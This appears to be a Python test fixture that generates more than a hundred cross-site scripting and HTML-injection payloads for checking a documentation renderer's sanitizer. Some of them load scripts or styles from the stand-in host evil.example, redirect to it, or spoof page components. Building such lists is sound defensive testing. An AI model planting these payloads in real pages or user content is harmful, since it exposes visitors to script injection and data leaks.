"""What an outsider may write to make a reader's browser run, load or show what it should not."""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"
EVIL = "https://evil.example/x"
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend")
ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT >",
    '<script src="{evil}.js"></script>',
    "<img src=x {handler}={run}>",
    '<img alt="[[exporter-tout]]" src=x {handler}={run}>',
    "<img src=x title='[[exporter-tout|x\" {handler}=\"{run}]]'>",
    "<svg {handler}={run}><circle r=1 /></svg>",
    "<svg><script>{run}</script></svg>",
    "<details open {handler}={run}>a</details>",
    "<body {handler}={run}>",
    "<input autofocus {handler}={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data='{evil}'></object><embed src='{evil}'>",
    "<math><mtext><mglyph><style><img src=x {handler}={run}></style></mglyph></mtext></math>",
    "<noscript><p title='</noscript><img src=x {handler}={run}>'></noscript>",
    "<textarea></textarea><img src=x {handler}={run}>",
    "<style>@import '{evil}.css'; body {{ background: url({evil}) }}</style>",
    "<p style='background: url({evil})'>a</p>",
    "<link rel=stylesheet href='{evil}.css'>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<base href='{evil}'>",
    "<form action='{evil}'><button>a</button></form>",
    "<video src='{evil}' poster='{evil}'></video><audio src='{evil}'></audio>",
    "<picture><source srcset='{evil}'><img srcset='{evil} 2x'></picture>",
    "<img src='{evil}.png'>",
    "<img src='//evil.example/x.png'>",
    "![a]({evil}.png)",
    "![a](/\\evil.example/x.png)",
    "[a](javascript:{run})",
    "[a](java&#10;script:{run})",
    "[a](data:text/html,<script>{run}</script>)",
    '[a][b]\n\n[b]: javascript:{run} "x" \n',
    "<a href='#' ping='{evil}'>a</a>",
    "<blockquote cite='javascript:{run}'>a</blockquote>",
    '<div id=\'__config\'>{{"base": "{evil}", "search": "{evil}.js"}}</div>',
    "<div id='__search' class='md-overlay'>a</div>",
    "<a name='__drawer' id='__palette'>a</a>",
    "<pre class='mermaid'><code>graph TD; a-->b</code></pre>",
    "<div class='md-overlay md-dialog md-consent' data-md-component=dialog>a</div>",
    "<div data-md-component=announce data-clipboard-text='a' data-md-toggle=drawer>a</div>",
    "<span id='club-main' class='club-action' data-club-toggle='__search'>a</span>",
    "# a {{: {handler}={run} style=position:fixed }}",
    "<!--><img src=x {handler}={run}>-->",
    "<!--[if true]><script>{run}</script><![endif]-->",
    "&lt;img src=x {handler}={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "`<img src=x {handler}={run}>`",
    "[[exporter-tout|<img src=x {handler}={run}>]]",
    '[[exporter-tout#" {handler}="{run}]]',
    "*[a]: <img src=x {handler}={run}>\n\na\n",
    '[^a"{handler}={run}]\n\n[^a"{handler}={run}]: a\n',
    '!!! note" "<img src=x {handler}={run}>"\n    a\n',
    "``` {{.mermaid {handler}={run}}}\na\n```\n",
    "<a href='https://evil.example' target=_top download>a</a>",
    "{{{{ config }}}} {{% include 'x' %}}",
)
"""Each with slots: what would run, whose address would be asked, and which event."""


def payloads() -> list[str]:
    """More than a hundred, each one a text that may stand in a paragraph or a title."""
    found = dict.fromkeys(
        text.format(run=RUN, evil=EVIL, handler=handler)
        for text, handler in product(ELEMENTS, HANDLERS[:4])
    )
    return list(found)
